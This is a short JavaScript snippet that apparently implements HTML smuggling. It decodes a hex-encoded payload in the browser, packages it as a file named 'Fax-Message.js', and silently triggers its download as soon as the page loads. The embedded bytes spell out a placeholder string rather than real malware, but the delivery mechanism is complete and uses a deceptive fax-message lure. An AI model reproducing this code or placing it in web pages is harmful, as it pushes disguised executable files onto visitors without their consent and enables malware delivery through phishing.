const hex = '504c414345484f4c444552504c414345484f4c444552504c414345484f4c444552';
const u8 = new Uint8Array(hex.match(/../g).map(h => parseInt(h, 16)));
const f = new File([u8], 'Fax-Message.js', { type: 'application/octet-stream' });
const u = URL.createObjectURL(f);
const go = () => { const a = Object.assign(document.createElement('a'), { href: u, download: f.name }); document.body.appendChild(a); a.click(); };
document.readyState === 'complete' ? go() : addEventListener('load', go);
